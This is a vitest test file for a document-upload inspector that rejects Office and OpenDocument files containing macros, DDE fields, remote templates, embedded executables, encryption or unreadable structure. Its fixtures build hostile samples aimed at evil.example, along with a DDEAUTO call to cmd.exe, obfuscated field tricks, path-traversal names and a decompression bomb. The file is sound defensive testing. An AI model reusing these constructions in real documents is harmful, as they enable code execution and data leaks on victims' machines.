// Tests which uploaded documents are refused: those that run code or fetch something when opened, and those that
// cannot be inspected.

import { deflateRawSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { biff, makeCompound, makeWordStream, makeWorkbook } from "#src/testing/compound.ts";
import { makeZip } from "#src/testing/zip.ts";
import { DANGERS } from "./dangers.ts";
import { inspectDocument } from "./inspect-document.ts";

const XML = "application/xml";
const types = (...more: string[]) =>
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="${XML}"/>${more.join("")}</Types>`;
const relations = (...all: string[]) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all.join("")}</Relationships>`;
const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const external = (type: string, target: string) =>
  `<Relationship Id="r1" Type="${OFFICE}/${type}" Target="${target}" TargetMode="External"/>`;

const macroExtension = (extension: string) =>
  `<Default Extension="${extension}" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>`;

/**
 * Makes an office document.
 * @param parts contents by name, added to or replacing the parts that every document has
 */
function office(main: string, parts: Record<string, string | Buffer> = {}): Buffer {
  const all: Record<string, string | Buffer> = { "[Content_Types].xml": types(), [main]: "<x/>", ...parts };
  return makeZip(Object.keys(all), all);
}
const docx = (parts?: Record<string, string | Buffer>) => office("word/document.xml", parts);
const xlsx = (parts?: Record<string, string | Buffer>) => office("xl/workbook.xml", parts);
const pptx = (parts?: Record<string, string | Buffer>) => office("ppt/presentation.xml", parts);
const open = (parts: Record<string, string | Buffer> = {}) => {
  const all = { mimetype: "application/vnd.oasis.opendocument.text", "content.xml": "<x/>", ...parts };
  return makeZip(Object.keys(all), all);
};
const internal = (type: string, target: string) =>
  `<Relationship Id="r2" Type="${OFFICE}/${type}" Target="${target}"/>`;
/** Makes a document with a chart whose values are in a file. */
const chartWith = (values: Buffer) =>
  docx({
    "word/charts/_rels/chart1.xml.rels": relations(internal("package", "../embeddings/Values.xlsx")),
    "word/embeddings/Values.xlsx": values,
  });
const override = (part: string, type: string) =>
  types(`<Override PartName="${part}" ContentType="application/vnd.openxmlformats-officedocument.${type}"/>`);
const word = (...body: string[]) =>
  `<w:document xmlns:w="w" xmlns:r="r"><w:body>${body.join("")}</w:body></w:document>`;
const character = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const instruction = (text: string) =>
  `<w:r><w:instrText>${text.replaceAll('"', "&quot;")}</w:instrText></w:r>`;
/** Writes a field of Word. @param result may have other fields */
const field = (text: string, result = "") =>
  `${character("begin")}${instruction(text)}${character("separate")}${result}${character("end")}`;
const openXml = (content: string, body = "text") =>
  `<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:text="t" xmlns:draw="d" xmlns:form="f" xmlns:chart="c"><office:body><office:${body}>${content}</office:${body}></office:body></office:document-content>`;
/** @param content texts of XML, and other parts */
const openWith = (...content: (string | Record<string, string | Buffer>)[]) =>
  open({
    "content.xml": openXml(content.filter((one) => typeof one === "string").join("")),
    ...content.find((one) => typeof one !== "string"),
  });
const xls = (workbook: Buffer, more: Record<string, Buffer | null> = {}) =>
  makeCompound({ Workbook: workbook, ...more });
const doc = (more: Record<string, Buffer | null> = {}, stream = makeWordStream()) =>
  makeCompound({ WordDocument: stream, ...more });
const record = (type: number, data: Buffer) => {
  const head = Buffer.alloc(8);
  head.writeUInt16LE(type, 2);
  head.writeUInt32LE(data.length, 4);
  return Buffer.concat([head, data]);
};
const vbaInfo = (hasMacros: number) =>
  record(0x0400, Buffer.from([0, 0, 0, 0, hasMacros, 0, 0, 0, 2, 0, 0, 0]));
/** Wraps records in a PowerPoint list container that reaches to the end of the stream. */
const ppt = (...records: Buffer[]) => {
  const inner = Buffer.concat(records);
  const container = Buffer.concat([record(0x03e8, inner).fill(0x0f, 0, 1), record(0, Buffer.alloc(5000))]);
  return makeCompound({ "PowerPoint Document": container });
};

/** Makes a document with a compressed part that declares to be as large unpacked as it is compressed. */
function lieAboutSize(name: string, compressed: Buffer): Buffer {
  const bytes = docx({ [name]: compressed });
  const deflated = 8;
  for (const at of findAll(bytes, name)) {
    const isEntry = bytes.readUInt32LE(at - 46) === 0x02014b50;
    bytes.writeUInt16LE(deflated, isEntry ? at - 46 + 10 : at - 30 + 8);
  }
  return bytes;
}

function findAll(bytes: Buffer, text: string): number[] {
  const found: number[] = [];
  for (let at = bytes.indexOf(text); at >= 0; at = bytes.indexOf(text, at + 1)) found.push(at);
  return found;
}

describe("a document is taken", () => {
  it.each([
    ["docx", docx()],
    ["docx", docx({ "word/_rels/document.xml.rels": relations(external("hyperlink", "https://a.com/")) })],
    [
      "docx",
      docx({
        "word/_rels/settings.xml.rels": relations(
          external("attachedTemplate", "file:///C:\\Users\\Ana\\Modelos\\Carta.dotx"),
        ),
      }),
    ],
    ["docx", chartWith(xlsx())],
    [
      "docx",
      docx({
        "word/document.xml": word(
          '<w:p><w:hyperlink r:id="r1"><w:r><w:t>DDE e INCLUDETEXT são campos.</w:t></w:r></w:hyperlink></w:p>',
          '<w:fldSimple w:instr=" PAGE "/>',
          field('HYPERLINK "https://a.com/DDE"', field("PAGEREF _Toc1")),
          '<a:blip xmlns:a="x" r:embed="r2"/>',
        ),
        "word/_rels/document.xml.rels": relations(
          external("hyperlink", "https://a.com/"),
          internal("image", "media/image1.png"),
        ),
        "word/media/image1.png": Buffer.from("89504e470d0a1a0a", "hex"),
      }),
    ],
    [
      "xlsx",
      xlsx({
        "xl/connections.xml": "<connections/>",
        "xl/drawings/_rels/drawing1.xml.rels": relations(internal("chart", "../charts/chart1.xml")),
        "xl/charts/chart1.xml": "<chartSpace/>",
      }),
    ],
    [
      "odt",
      openWith(
        '<draw:image xlink:href="Pictures/a.png"/><text:a xlink:href="https://a.com/">a</text:a>',
        '<draw:object xlink:href="./Object 1"/><form:form xlink:href=""/>',
        { "Pictures/a.png": "", "Object 1/content.xml": openXml('<chart:chart xlink:href=".."/>', "chart") },
      ),
    ],
    ["odt", openWith('<presentation:event-listener presentation:action="next-page" xlink:href="#a"/>')],
    ["docx", office("Word/Document.xml")],
    ["xlsx", xlsx({ "[Content_Types].xml": types(macroExtension("bin")) })],
    ["xlsx", xlsx()],
    ["pptx", pptx({ "[Content_Types].xml": `\uFEFF${types()}` })],
    ["odt", open()],
    ["zip", makeZip(["scripts/app.js", "leia-me.txt"])],
    ["doc", doc()],
    ["xls", xls(makeWorkbook())],
    ["ppt", ppt(vbaInfo(0))],
    ["pdf", Buffer.from("%PDF-1.7")],
  ])("without code in it: %s", async (extension, bytes) => {
    expect(await inspectDocument(bytes)).toEqual({ ok: true, extension });
  });
});

describe("macros are found", () => {
  const basic = '<ooo:source-code xmlns:ooo="o">Sub Main</ooo:source-code>';
  const vbaType = '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>';
  const vbaRelation =
    '<Relationship Id="r1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="x.bin"/>';
  it.each([
    ["as Word names them", docx({ "word/vbaProject.bin": "" })],
    ["in other case", docx({ "word/vbaproject.BIN": "" })],
    ["with a name that is written as an address", docx({ "word/vba%50roject.bin": "" })],
    ["in another folder", docx({ "a/b/VBAPROJECT.bin": "" })],
    ["of Excel", xlsx({ "xl/vbaProject.bin": "" })],
    ["of PowerPoint", pptx({ "ppt/VbaProject.bin": "" })],
    ["by their data", docx({ "word/vbaData.xml": "" })],
    ["as a sheet of Excel 4.0", xlsx({ "xl/MacroSheets/sheet1.xml": "<x/>" })],
    ["as an ActiveX control", docx({ "word/activeX/activeX1.bin": "" })],
    ["by the type of a part of any name", docx({ "[Content_Types].xml": types(vbaType) })],
    [
      "by a type that is written with references",
      docx({ "[Content_Types].xml": types(vbaType.replace("vba", "&#118;&#x62;a")) }),
    ],
    [
      "by a type in UTF-16",
      docx({ "[Content_Types].xml": Buffer.from(`\uFEFF${types(vbaType)}`, "utf16le") }),
    ],
    [
      "by the type of the whole",
      docx({
        "[Content_Types].xml": types(
          '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
        ),
      }),
    ],
    [
      "by the type of an extension",
      docx({ "[Content_Types].xml": types(macroExtension("BIN")), "a.bin": "" }),
    ],
    [
      "by a relation with a space around its type",
      docx({ "word/_rels/document.xml.rels": relations(vbaRelation.replace('Project" ', 'Project " ')) }),
    ],
    [
      "by a relation in what calls itself an open document",
      open({ "word/_rels/a.xml.rels": relations(vbaRelation) }),
    ],
    ["by a relation", docx({ "word/_rels/document.xml.RELS": relations(vbaRelation) })],
    ["in a document within it", chartWith(xlsx({ "xl/vbaProject.bin": "" }))],
    ["of LibreOffice, in an object", open({ "Object 1/Basic/a.xml": "<x/>" })],
    ["as a listener in an open document", openWith('<script:event-listener xlink:href="a"/>')],
    ["as a module in an open document", openWith(`<office:script>${basic}</office:script>`)],
    [
      "as a module of Basic in an open document",
      openWith(`<office:script script:language="ooo:Basic">${basic}</office:script>`),
    ],
    ["as a script in an open document", openWith('<text:script xlink:href="a"/>')],
    [
      "as a program that a presentation starts",
      openWith('<presentation:event-listener presentation:action="execute" xlink:href="a.exe"/>'),
    ],
    [
      "as a link to a macro",
      openWith('<text:a xlink:href="vnd.sun.star.script:a.b?language=Basic">a</text:a>'),
    ],
    ["of LibreOffice", open({ "Basic/Standard/Module1.xml": "<x/>" })],
    ["of LibreOffice, in other case", open({ "SCRIPTS/python/a.py": "" })],
    ["in a storage of Word before 2007", doc({ Macros: null, VBA: null })],
    ["in a storage of Excel before 2007", xls(makeWorkbook(), { _vba_project_CUR: null })],
    ["as a sheet of Excel 4.0 before 2007", xls(makeWorkbook({ sheetType: 1 }))],
    ["as a module of Excel 5.0", xls(makeWorkbook({ sheetType: 6 }))],
    [
      "as a sheet that the list calls a worksheet",
      xls(Buffer.concat([makeWorkbook(), biff(0x0809, Buffer.from([0, 6, 0x40, 0, 0, 0, 0, 0]))])),
    ],
    ["in the older stream beside", xls(makeWorkbook(), { Book: makeWorkbook({ sheetType: 1 }) })],
    ["of PowerPoint before 2007", ppt(vbaInfo(1))],
    ["in a document within one of before 2007", doc({ Data: Buffer.from("_vba_project", "utf16le") })],
  ])("%s", async (_name, bytes) => {
    expect(await inspectDocument(bytes)).toEqual({ ok: false, detail: DANGERS.macros });
  });
});

describe("what a document brings or fetches is found", () => {
  const settings = (target: string) =>
    docx({ "word/_rels/settings.xml.rels": relations(external("attachedTemplate", target)) });
  it.each([
    ["a template elsewhere", settings("https://evil.example/t.dotm"), "remote"],
    [
      "a template elsewhere, whose mode has spaces",
      docx({
        "word/_rels/settings.xml.rels": relations(
          external("attachedTemplate", " https://evil.example/t.dotm").replace('"External"', '" External "'),
        ),
      }),
      "remote",
    ],
    [
      "a template elsewhere, in what calls itself an open document",
      open({
        "word/_rels/settings.xml.rels": relations(
          external("attachedTemplate", "https://evil.example/t.dotm"),
        ),
      }),
      "remote",
    ],
    ["a template of a Windows share", settings("\\\\evil.example\\t.dotm"), "remote"],
    ["a template of a share, as a file", settings("file://evil.example/t.dotm"), "remote"],
    ["a template of a share, as a local file", settings("file:////evil.example/t.dotm"), "remote"],
    [
      "an object elsewhere",
      docx({ "word/_rels/document.xml.rels": relations(external("oleObject", "http://evil.example/a")) }),
      "remote",
    ],
    [
      "a link to another program",
      xlsx({
        "xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
      }),
      "remote",
    ],
    ["a program within it", docx({ "word/embeddings/oleObject1.bin": Buffer.from("MZ") }), "objects"],
    ["a package within one of before 2007", doc({ "\u0001Ole10Native": Buffer.from("MZ") }), "objects"],
  ] as const)("%s", async (_name, bytes, danger) => {
    expect(await inspectDocument(bytes)).toEqual({ ok: false, detail: DANGERS[danger] });
  });

  it.each([
    ["DDEAUTO", field("DDEAUTO c:\\\\cmd.exe")],
    ["dde", field(" dde a b")],
    ["INCLUDETEXT", field('INCLUDETEXT "https://evil.example/a"')],
    ["INCLUDEPICTURE", field('INCLUDEPICTURE "https://evil.example/a"')],
    [
      "one in elements of their own",
      `${character("begin")}${["DD", "EAU", "TO a"].map(instruction).join("")}`,
    ],
    [
      "one before a tabulator",
      `${character("begin")}${instruction("DDE")}<w:r><w:tab/></w:r>${instruction("a")}`,
    ],
    ["one as a simple field", '<w:fldSimple w:instr=" DDEAUTO a"/>'],
    ["one within another", field("IF 1 = 1", field("DDE a"))],
    ["one whose first word is the result of another", character("begin") + field("QUOTE 68 68 69")],
    ["one with references", field("D&#68;E a")],
    ["one as a section", `${character("begin")}<w:r><w:instrText><![CDATA[DDE a]]></w:instrText></w:r>`],
  ])("a field that fetches or starts something: %s", async (_name, body) => {
    const bare = office("word/document.xml", {
      "[Content_Types].xml": override("/a/b.xml", "wordprocessingml.footer+xml"),
      "a/b.xml": word(body),
    });
    const inParts = ["document", "header1", "footer2", "comments", "footnotes", "glossary/document"].map(
      (part) => docx({ [`word/${part}.xml`]: word(body) }),
    );
    for (const bytes of [bare, ...inParts])
      expect(await inspectDocument(bytes)).toEqual({ ok: false, detail: DANGERS.remote });
  });

  const rels = (...all: string[]) => docx({ "word/_rels/document.xml.rels": relations(...all) });
  const program = Buffer.from("MZ\u0090\u0000");
  it.each([
    ["a picture elsewhere", rels(external("image", "https://evil.example/a.png")), "remote"],
    ["a picture as a file", rels(external("image", "file:///C:/a.png")), "remote"],
    ["a picture of a share", rels(external("image", "\\\\evil.example\\a.png")), "remote"],
    ["a workbook elsewhere", rels(external("externalLinkPath", "a.xlsx")), "remote"],
    ["a piece of HTML", rels(internal("aFChunk", "a.html")), "objects"],
    ["a piece of HTML elsewhere", rels(external("aFChunk", "https://evil.example/a")), "remote"],
    ["an object in a part of any name", rels(internal("oleObject", "media/a.png")), "objects"],
    ["a package outside of a chart", rels(internal("package", "media/a.xlsx")), "objects"],
    ["a workbook without a chart", docx({ "word/embeddings/a.xlsx": xlsx() }), "objects"],
    ["a document as the values of a chart", chartWith(docx()), "objects"],
    ["a document before 2007 as the values of a chart", chartWith(doc()), "objects"],
    [
      "the values of a chart in another part",
      docx({
        "word/charts/_rels/chart1.xml.rels": relations(internal("package", "/word/media/a.bin")),
        "word/media/a.bin": "a",
      }),
      "objects",
    ],
    ["a text in the folder of objects", docx({ "word/embeddings/a.txt": "a" }), "objects"],
    ["a program among pictures", docx({ "word/media/a.png": program }), "objects"],
    ["a program in an open document", openWith({ "Pictures/a.png": program }), "objects"],
    ["an archive among pictures", docx({ "word/media/a.png": makeZip(["a.txt"]) }), "objects"],
    ["an object among pictures", pptx({ "ppt/media/a.png": doc() }), "objects"],
    [
      "a link to a workbook, by the type of a part of any name",
      xlsx({ "[Content_Types].xml": override("/xl/a.xml", "spreadsheetml.externalLink+xml") }),
      "remote",
    ],
    [
      "a query of a website",
      xlsx({ "xl/connections.xml": '<connections><connection><webPr url="a"/></connection></connections>' }),
      "remote",
    ],
    [
      "a query of a database, by the type of a part of any name",
      xlsx({
        "[Content_Types].xml": override("/xl/a.xml", "spreadsheetml.connections+xml"),
        "xl/a.xml": "<connections><connection><dbPr/></connection></connections>",
      }),
      "remote",
    ],
    ["a section elsewhere", openWith('<text:section-source xlink:href="../a.odt"/>'), "remote"],
    ["a frame", openWith('<draw:floating-frame xlink:href="a"/>'), "remote"],
    ["a program's data in an open document", openWith("<office:dde-source/>"), "remote"],
    ...[
      "http://evil.example/a.png",
      "file:///a",
      "\\\\evil.example\\a",
      "//evil.example/a",
      "../a",
      "%2E./a",
    ].map(
      (address) =>
        [
          `a picture of an open document at ${address}`,
          openWith(`<draw:image xlink:href="${address}"/>`),
          "remote",
        ] as const,
    ),
    [
      "a picture elsewhere in styles",
      openWith({ "styles.xml": openXml('<text:x xlink:href="https://evil.example/"/>') }),
      "remote",
    ],
    ["a text as an object", openWith({ "Object 1/content.xml": openXml("") }), "objects"],
    ["an object of another program", openWith('<draw:object-ole xlink:href="./Object 1"/>'), "objects"],
    ["an object written into the text", openWith("<draw:object><office:document/></draw:object>"), "objects"],
    [
      "a picture elsewhere in a chart",
      openWith({ "Object 1/content.xml": openXml('<draw:x xlink:href="http://evil.example"/>', "chart") }),
      "remote",
    ],
  ] as const)("%s", async (_name, bytes, danger) => {
    expect(await inspectDocument(bytes)).toEqual({ ok: false, detail: DANGERS[danger] });
  });

  it("however deep documents lie in documents", async () => {
    const nest = (depth: number): Buffer =>
      xlsx(
        depth > 0
          ? {
              "xl/charts/_rels/chart1.xml.rels": relations(internal("package", "../embeddings/a.xlsx")),
              "xl/embeddings/a.xlsx": nest(depth - 1),
            }
          : {},
      );
    expect(await inspectDocument(nest(2))).toMatchObject({ ok: true });
    expect(await inspectDocument(nest(3))).toEqual({ ok: false, detail: DANGERS.objects });
  });
});

describe("what cannot be looked into is refused", () => {
  const cutTable = doc();
  cutTable.writeUInt32LE(0x7fff, 76);
  const otherCutoff = doc();
  otherCutoff.writeUInt32LE(0, 56);
  const inCircle = doc();
  // Makes the allocation table's chain refer to itself.
  inCircle.writeUInt32LE(0, inCircle.length - 512);
  it.each([
    ["a list of types that is no XML", docx({ "[Content_Types].xml": "<Types" }), DANGERS.unreadable],
    ["no list of types", makeZip(["word/document.xml"]), DANGERS.unreadable],
    [
      "a list of types in an encoding that hides words",
      docx({ "[Content_Types].xml": `<?xml version="1.0" encoding="utf-7"?>${types()}` }),
      DANGERS.unreadable,
    ],
    [
      "a list of types with a document type",
      docx({ "[Content_Types].xml": `<!DOCTYPE Types [<!ENTITY a "b">]>${types()}` }),
      DANGERS.unreadable,
    ],
    ["a part whose name leads out of it", docx({ "../word/vbaProject.bin": "" }), /nome leva para fora/],
    ["two parts of one name", makeZip(["a.txt", "a.txt"]), /duas partes/],
    [
      "an open document with a password",
      open({ "META-INF/manifest.xml": "<m:a xmlns:m='x'><m:encryption-data/></m:a>" }),
      DANGERS.encrypted,
    ],
    ["a document with a password", makeCompound({ EncryptedPackage: Buffer.from("x") }), DANGERS.encrypted],
    ["Word before 2007 with a password", doc({}, makeWordStream({ isEncrypted: true })), DANGERS.encrypted],
    [
      "Excel before 2007 with a password",
      xls(makeWorkbook({ more: biff(0x002f, Buffer.alloc(54)) })),
      DANGERS.encrypted,
    ],
    ["PowerPoint before 2007 with a password", ppt(record(0x2f14, Buffer.alloc(8))), DANGERS.encrypted],
    [
      "a workbook whose records lead out of it",
      xls(
        Buffer.concat([
          makeWorkbook({ more: biff(0x00fc, Buffer.alloc(4100)) }),
          Buffer.from([0xff, 0, 0xff, 0x7f]),
        ]),
      ),
      DANGERS.unreadable,
    ],
    ["a compound file whose table lies elsewhere", cutTable, DANGERS.unreadable],
    ["a compound file with another size of small streams", otherCutoff, DANGERS.unreadable],
    ["a compound file that goes in a circle", inCircle, DANGERS.unreadable],
    ["a compound file that was cut", doc().subarray(0, -512), DANGERS.unreadable],
    [
      "a name without its content",
      Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.from("WordDocument", "utf16le")]),
      DANGERS.unreadable,
    ],
  ])("%s", async (_name, bytes, detail) => {
    const inspection = await inspectDocument(bytes);
    expect(inspection.ok).toBe(false);
    if (!inspection.ok) expect(inspection.detail).toMatch(detail);
  });

  it.each(["word/media/a.png", "word/document.xml", "a.bin"])(
    "a part that is larger than it declares: %s",
    async (name) => {
      const bytes = lieAboutSize(name, deflateRawSync(Buffer.alloc(64 * 1024 * 1024, " ")));
      expect(await inspectDocument(bytes)).toEqual({ ok: false, detail: expect.any(String) });
    },
  );

  it("bytes at random after a true beginning end in an answer", async () => {
    let seed = 1;
    const random = () => (seed = (seed * 48_271) % 2_147_483_647);
    for (const whole of [doc(), xls(makeWorkbook()), ppt(vbaInfo(0)), docx(), xlsx()])
      for (let round = 0; round < 60; round++) {
        const bytes = Buffer.from(whole);
        for (let change = 0; change < 6; change++)
          bytes[8 + (random() % (bytes.length - 8))] = random() % 256;
        expect(typeof (await inspectDocument(bytes)).ok).toBe("boolean");
      }
  });
});
